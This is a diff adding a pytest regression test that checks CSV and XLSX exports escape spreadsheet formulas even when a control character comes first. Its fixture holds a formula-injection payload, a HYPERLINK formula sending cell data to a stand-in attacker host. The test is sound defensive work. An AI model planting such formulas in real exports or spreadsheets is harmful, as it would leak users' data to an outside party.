@@ -234,3 +234,22 @@ def test_the_resource_reads_back_labels_for_the_import():
 
 def test_the_resource_headers_are_the_export_headers():
     assert KimResource().get_export_headers() == HEADERS
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+@pytest.mark.parametrize("control", [chr(c) for c in range(1, 0x20)] + ["\x7f"])
+def test_a_control_character_before_a_formula_cannot_unmask_it(
+    client, demo_users, fmt, control
+):
+    """Issue #7 finding 1: the apostrophe is added after the XLSX writer's clean-up."""
+    chair = control + '=HYPERLINK("http://attacker.example/?d="&A2,"Lihat")'
+    KimFactory(chair_name=chair)
+
+    response = export(client, demo_users["kab-malang"], fmt)
+
+    if fmt == "csv":
+        cell = first_row(response)["Ketua/narahubung"]
+    else:
+        cell = xlsx_rows(response)[1][HEADERS.index("Ketua/narahubung")]
+    assert cell.startswith("'"), repr(cell)
+    assert "=HYPERLINK" in cell
